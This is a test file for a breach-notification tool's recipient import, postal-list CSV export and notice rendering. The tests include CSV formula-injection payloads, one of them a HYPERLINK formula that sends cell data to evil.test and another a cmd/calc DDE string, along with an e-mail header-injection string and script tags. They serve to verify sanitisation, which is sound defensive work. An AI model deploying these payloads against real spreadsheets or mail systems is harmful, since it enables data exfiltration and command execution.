// Importing affected people and rendering their notices: PGlite, real files streamed, no server.
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse as parseCsv } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { checkTemplates, NoticeRenderer, renderNotice, TemplateInvalid } from '../activities/notices';
import { importRecipients, postalListCsv } from '../activities/recipients';
import { openStore, type Store } from '../activities/store';
import type { PostalRow } from '../activities/store/recipients';
import type { CampaignNotice } from '../workflows/definitions';
import { InvalidInput } from '../workflows/domain/facts';

let store: Store;
beforeAll(async () => {
  store = await openStore('pglite:memory');
});
afterAll(async () => store?.close());

const csv = `id,name,email,postal_address,locale,data_categories
p1,山田 花子,hanako@example.test,,ja,name;email;payment_card
p2,"Smith, John",john@example.test,"1 Main St, Springfield",en,name;email
p3,No Contact,,,en,name
p4,鈴木 一郎,,"東京都千代田区1-1",ja,name;address;health
p1,山田 花子,hanako@example.test,,ja,phone
p5,Duplicate Email,JOHN@example.test,,en,credentials
p6,Bad Locale,six@example.test,,fr,name
p7,Bad Category,seven@example.test,,en,name;shoe_size
p8,Too,many,columns,en,name,extra,more
p9,Last Person,nine@example.test,,en,
`;

describe('recipient import', () => {
  it('imports valid rows, reports invalid ones by line and reason, and merges duplicates by id and e-mail', async () => {
    const report = await importRecipients(store, 'breach-import', Readable.from([csv]), 'csv');
    expect(report).toMatchObject({ rows: 10, imported: 4, merged: 2 });
    expect(report.errors.map((e) => e.line)).toEqual([4, 8, 9, 10]);
    expect(report.errors[0]!.reason).toBe('email: needs an email or a postalAddress');
    expect(report.errors[1]!.reason).toContain('locale');
    expect(report.errors[2]!.reason).toContain('dataCategories.1');
    expect(report.invalid).toBe(4);
    const { rows } = await store.sql.query<{ person_id: string; data_categories: string[]; priority: number }>(
      "SELECT person_id, data_categories, priority FROM recipient WHERE breach_id = 'breach-import' ORDER BY person_id",
    );
    expect(rows.map((r) => r.person_id)).toEqual(['p1', 'p2', 'p4', 'p9']);
    expect(rows.find((r) => r.person_id === 'p1')!.data_categories.sort()).toEqual(['email', 'name', 'payment_card', 'phone']);
    // p5 had p2's e-mail in other case: merged into p2, which now counts as exposed (credentials) and goes first.
    expect(rows.find((r) => r.person_id === 'p2')).toMatchObject({ priority: 0 });
    expect(await store.recipients.counts('breach-import')).toEqual({ total: 4, withEmail: 3, postalOnly: 1 });
  });

  it('imports JSON Lines, and merges with what an earlier import brought', async () => {
    const jsonl = [
      JSON.stringify({ id: 'q1', name: 'Ann', email: 'ann@example.test', locale: 'en', dataCategories: ['email'] }),
      'Dana Secret, not JSON at all',
      JSON.stringify({ id: 'q2', name: 'Bo', email: 'not-an-email' }),
      '',
      JSON.stringify({ id: 'q1', name: 'Ann', email: 'ann@example.test', dataCategories: ['health'] }),
    ].join('\n');
    const first = await importRecipients(store, 'breach-jsonl', Readable.from([jsonl]), 'jsonl');
    expect(first).toMatchObject({ rows: 4, imported: 1, merged: 1, invalid: 2 });
    expect(first.errors.map((e) => [e.line, e.reason.split(':')[0]])).toEqual([
      [2, 'malformed JSON'],
      [3, 'email'],
    ]);
    expect(first.errors[0]!.reason).not.toContain('Dana'); // the line is named, its data is not repeated
    const again = await importRecipients(
      store,
      'breach-jsonl',
      Readable.from([JSON.stringify({ id: 'q9', name: 'Ann again', email: 'ANN@example.test', dataCategories: ['phone'] })]),
      'jsonl',
    );
    expect(again).toMatchObject({ imported: 0, merged: 1 });
  });

  it('plans waves most-exposed first and puts people without e-mail on the postal list', async () => {
    const waves = await store.recipients.planDeliveries('campaign-1', 'breach-import', 2);
    expect(waves).toEqual([
      { wave: 1, total: 2 },
      { wave: 2, total: 2 },
    ]);
    const claimed = await store.recipients.claimDeliveries('campaign-1', 1, 10);
    expect(claimed.map((c) => c.person_id).sort()).toEqual(['p1', 'p2']); // both lost financial data or credentials
    const postal = await store.recipients.postalList('breach-import');
    expect(postal.map((p) => [p.person_id, p.reason, p.postal_address])).toEqual([['p4', 'postal', '東京都千代田区1-1']]);
  });
});

const HEADER = 'id,name,email,postal_address,locale,data_categories\n';
const person = (i: number) => `p${i},Person ${i},p${i}@example.test,,en,name;email\n`;
const people = (n: number, replace: Record<number, string> = {}) => HEADER + Array.from({ length: n }, (_, i) => replace[i] ?? person(i)).join('');
const countOf = async (breachId: string) => (await store.recipients.counts(breachId)).total;

describe('imports that lose nothing', () => {
  it('reports a NUL in a cell as an invalid row by its line, past the first batch, and imports every other row', async () => {
    const report = await importRecipients(store, 'breach-nul', Readable.from([people(1500, { 1200: 'p1200,Eve\u0000,eve@example.test,,en,name\n' })]), 'csv');
    expect(report).toMatchObject({ rows: 1500, imported: 1499, merged: 0, invalid: 1 });
    expect(report.errors).toEqual([{ line: 1202, reason: 'name: control character U+0000 at offset 3 is not allowed' }]);
    expect(await countOf('breach-nul')).toBe(1499);

    const jsonl = [
      JSON.stringify({ id: 'j1', name: 'Ann', email: 'ann@example.test' }),
      JSON.stringify({ id: 'j2', name: 'Bo', postalAddress: '1 Main St\u0000' }),
      JSON.stringify({ id: 'j3', name: 'Cy\u202Eab', email: 'cy@example.test' }),
    ].join('\n');
    const fromJsonl = await importRecipients(store, 'breach-nul-jsonl', Readable.from([jsonl]), 'jsonl');
    expect(fromJsonl).toMatchObject({ rows: 3, imported: 1, invalid: 2 });
    expect(fromJsonl.errors.map((e) => [e.line, e.reason])).toEqual([
      [2, 'postalAddress: control character U+0000 at offset 9 is not allowed'],
      [3, 'name: bidirectional override U+202E at offset 2 is not allowed'],
    ]);
  });

  it('refuses a CSV whose quote never closes, naming the line it opens on, and keeps nothing of it', async () => {
    const error = await importRecipients(
      store,
      'breach-quote',
      Readable.from([people(100, { 10: 'p10,"Person 10,p10@example.test,,en,name\n' })]),
      'csv',
    ).catch((e) => e);
    expect(error).toBeInstanceOf(InvalidInput);
    expect((error as InvalidInput).errors).toEqual([{ field: 'line 12', message: expect.stringMatching(/quote.*never closed/) }]);
    expect(await countOf('breach-quote')).toBe(0);
  });

  it('refuses a quote that closes rows later on a stray quote, rather than swallow the rows between', async () => {
    const text = people(20, { 3: 'p3,"Person 3,p3@example.test,,en,name\n', 9: 'p9,Person" 9,p9@example.test,,en,name\n' });
    const error = await importRecipients(store, 'breach-stray', Readable.from([text]), 'csv').catch((e) => e);
    expect(error).toBeInstanceOf(InvalidInput);
    expect((error as InvalidInput).errors[0]!.field).toBe('line 5');
    expect(await countOf('breach-stray')).toBe(0);
  });

  it('reports a row by the line it starts on, even one that spans lines, and takes a quote inside a bare cell as written', async () => {
    const text = people(6, {
      1: 'p1,"Two\nLines",p1@example.test,,en,name\n',
      2: 'p2,Too,many,fields,en,name,extra\n',
      3: 'p3,Dwayne "The Rock" J,p3@example.test,,en,name\n',
    });
    const report = await importRecipients(store, 'breach-span', Readable.from([text]), 'csv');
    expect(report).toMatchObject({ rows: 6, imported: 4, invalid: 2 });
    expect(report.errors).toEqual([
      { line: 3, reason: expect.stringContaining('a quoted cell runs from line 3 to line 4') },
      { line: 5, reason: 'has 7 cells where the header has 6' },
    ]);
    const { rows } = await store.sql.query<{ name: string }>("SELECT name FROM recipient WHERE breach_id = 'breach-span' AND person_id = 'p3'");
    expect(rows[0]!.name).toBe('Dwayne "The Rock" J');
  });

  it('accounts for every row it reads, whatever the cells hold: imported, merged or reported', async () => {
    const cell = fc.oneof(
      fc.string({ maxLength: 12 }),
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constantFrom('\u0000', '=1+1', '"', '\r\n', 'x\u202Ey'),
    );
    let run = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.integer({ min: 0, max: 20 }), cell, fc.option(cell), fc.boolean()), { minLength: 1, maxLength: 30 }),
        async (rows) => {
          const breachId = `breach-prop-${run++}`;
          const csv = stringify(
            rows.map(([id, name, address, email]) => [`p${id}`, name, email ? `p${id}@example.test` : '', address ?? '', 'en', 'name']),
            {
              header: true,
              columns: ['id', 'name', 'email', 'postal_address', 'locale', 'data_categories'],
            },
          );
          const report = await importRecipients(store, breachId, Readable.from([csv]), 'csv');
          expect(report.rows).toBe(rows.length);
          expect(report.imported + report.merged + report.invalid).toBe(rows.length);
          expect(report.errors).toHaveLength(report.invalid);
          expect(await countOf(breachId)).toBe(report.imported);
        },
      ),
      { numRuns: 60 },
    );
  });
});

describe('the postal list', () => {
  const hostile = {
    name: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    postalAddress: "+81 3 @SUM(1+1)*cmd|' /C calc'!A0",
  };

  it('neutralises cells a spreadsheet would run as formulas, and keeps them otherwise intact', async () => {
    const jsonl = [
      JSON.stringify({ id: '-2+3', ...hostile, locale: 'en' }),
      JSON.stringify({ id: 'plain', name: 'Plain Person', postalAddress: '1 Main St', locale: 'en' }),
    ].join('\n');
    expect((await importRecipients(store, 'breach-formula', Readable.from([jsonl]), 'jsonl')).imported).toBe(2);
    await store.recipients.planDeliveries('campaign-formula', 'breach-formula', 10);
    const csv = postalListCsv(await store.recipients.postalList('breach-formula'));
    const cells = parseCsv<Record<string, string>>(csv, { columns: true });
    expect(cells[0]).toMatchObject({ person_id: "'-2+3", name: `'${hostile.name}`, postal_address: `'${hostile.postalAddress}` });
    expect(cells[1]).toMatchObject({ person_id: 'plain', name: 'Plain Person', postal_address: '1 Main St' });

    const bounced: PostalRow = {
      campaign_id: 'c',
      person_id: 'b',
      name: '@evil',
      postal_address: '\t=cmd',
      locale: 'en',
      reason: 'bounced',
      smtp_response: '\r=1+1',
    };
    const [row] = parseCsv<Record<string, string>>(postalListCsv([bounced]), { columns: true });
    expect(row).toMatchObject({ name: "'@evil", postal_address: "'\t=cmd", smtp_response: "'\r=1+1" });
  });

  it('holds only people with a postal address, and counts those it cannot hold', async () => {
    const jsonl = [
      JSON.stringify({ id: 'mail-only', name: 'Mail Only', email: 'gone@example.test' }),
      JSON.stringify({ id: 'both', name: 'Both Ways', email: 'both@example.test', postalAddress: '2 Main St' }),
      JSON.stringify({ id: 'post-only', name: 'Post Only', postalAddress: '3 Main St' }),
    ].join('\n');
    await importRecipients(store, 'breach-unreachable', Readable.from([jsonl]), 'jsonl');
    await store.recipients.planDeliveries('campaign-unreachable', 'breach-unreachable', 10);
    await store.recipients.settleDeliveries('campaign-unreachable', [
      { personId: 'mail-only', status: 'bounced', messageId: '<m1@example.test>', smtpResponse: '550 no such user' },
      { personId: 'both', status: 'bounced', messageId: '<m2@example.test>', smtpResponse: '550 no such user' },
    ]);
    const postal = await store.recipients.postalList('breach-unreachable');
    expect(postal.map((p) => [p.person_id, p.reason])).toEqual([
      ['both', 'bounced'],
      ['post-only', 'postal'],
    ]);
    expect(postal.every((p) => p.postal_address)).toBe(true);
    expect(await store.recipients.unreachable('breach-unreachable')).toEqual({ noPostalAddress: 1 });
    expect(await store.recipients.unreachable('breach-import')).toEqual({ noPostalAddress: 0 });
  });
});

const notice: CampaignNotice = {
  companyName: 'Example Shop K.K.',
  incident: 'An attacker copied part of the order database on 20 November.',
  cause: 'Synthetic cause.',
  secondaryDamage: 'None known so far.',
  measures: 'We closed the hole, reset passwords and reported to the PPC.',
  advice: 'Check your card statements and change your password.',
  contactDesk: { name: 'Incident desk', phone: '0120-000-000', hours: 'weekdays 9:00-18:00 JST' },
};

describe('notices', () => {
  it('renders the Japanese and English notices with every item the guidance asks for', () => {
    const ja = renderNotice(notice, { name: '山田 花子', locale: 'ja', dataCategories: ['name', 'payment_card'] });
    expect(ja.subject).toBe('【重要】個人情報の漏えいに関するお詫びとお知らせ（Example Shop K.K.）');
    for (const part of [
      '山田 花子 様',
      'お詫び',
      'クレジットカード情報',
      'reported to the PPC',
      'Check your card',
      'Incident desk',
      '0120-000-000',
      'weekdays 9:00-18:00 JST',
    ]) {
      expect(ja.text).toContain(part);
    }
    const en = renderNotice(notice, { name: 'John <script>', locale: 'en', dataCategories: ['credentials'] });
    expect(en.text).toContain('Dear John <script>,');
    expect(en.html).toContain('Dear John &lt;script&gt;,'); // escaped in HTML
    expect(en.text).toContain('- your login ID and password');
  });

  it('renders many people exactly as one at a time does, whatever their names', () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 40 }),
        fc.constantFrom('ja' as const, 'en' as const),
        fc.subarray(['name', 'email', 'health', 'payment_card'] as const),
        (name, locale, categories) => {
          const person = { name, locale, dataCategories: [...categories] };
          const renderer = new NoticeRenderer(
            { ...notice, companyName: 'Shop {{person.name}} & <Co>' },
            { en: { subject: 'For {{person.name}}', text: '{{person.name}}: {{incident}}', html: '<b>{{person.name}}</b>' } },
          );
          expect(renderer.render(person)).toEqual(
            renderNotice({ ...notice, companyName: 'Shop {{person.name}} & <Co>' }, person, {
              en: { subject: 'For {{person.name}}', text: '{{person.name}}: {{incident}}', html: '<b>{{person.name}}</b>' },
            }),
          );
        },
      ),
      { numRuns: 300 },
    );
  });

  it('keeps the subject to one line whatever the notice says', () => {
    const rendered = renderNotice({ ...notice, companyName: 'Evil\r\nBcc: everyone@example.test' }, { name: 'x', locale: 'en', dataCategories: [] });
    expect(rendered.subject).not.toMatch(/[\r\n]/);
  });

  it('refuses a template with a missing variable, naming it', () => {
    const templates = { en: { subject: 'Hello {{person.name}}', text: 'We lost {{lostData}} at {{company.nmae}}', html: '<p>x</p>' } };
    expect(() => checkTemplates(notice, templates)).toThrow(TemplateInvalid);
    expect(() => checkTemplates(notice, templates)).toThrow('the en text template is invalid: missing variable {{company.nmae}}');
  });
});

describe('imports that the review broke', () => {
  it('refuses a row whose quote closes rows later, naming its lines, and imports the rows around it', async () => {
    const breachId = 'breach-quote-spans-rows';
    const rows = people(10, { 4: 'p4,Person 4,p4@example.test,"5 Main St,en,name\n', 6: 'p6,Person 6,p6@example.test,7 Main St",en,name\n' });
    const report = await importRecipients(store, breachId, Readable.from([rows]), 'csv');
    // Lines: 1 header; p0 on 2 … p4 on 6; its quote closes on line 8 (p6's row), swallowing p5.
    expect(report.errors).toEqual([{ line: 6, reason: expect.stringContaining('a quoted cell runs from line 6 to line 8') }]);
    expect(report).toMatchObject({ rows: 8, imported: 7, invalid: 1 });
    expect(report.errors[0]!.reason).not.toContain('p5');
  });

  it('numbers rows by their first line in a CRLF file whose quoted cells hold line breaks', async () => {
    const breachId = 'breach-crlf';
    const rows =
      'id,name,email,postal_address\r\np1,One,p1@example.test,ok\r\np2,Two,bad-email,ok\r\np3,Three,p3@example.test,"1-1 Chiyoda\r\nTokyo"\r\np4,Four,bad-email,ok\r\n';
    const report = await importRecipients(store, breachId, Readable.from([rows]), 'csv');
    expect(report.errors.map((e) => e.line)).toEqual([3, 4, 6]);
  });

  it('refuses a file without a header row, quoting none of its data', async () => {
    const error = await importRecipients(store, 'breach-headerless', Readable.from(['u-1,P 1,u1@example.com\nu-2,P 2,u2@example.com\n']), 'csv').catch(
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(InvalidInput);
    expect((error as InvalidInput).errors).toEqual([{ field: 'line 1', message: expect.stringContaining('the first line must be a header') }]);
    expect((error as Error).message).not.toContain('u1@example.com');
    expect(await countOf('breach-headerless')).toBe(0);
  });
});
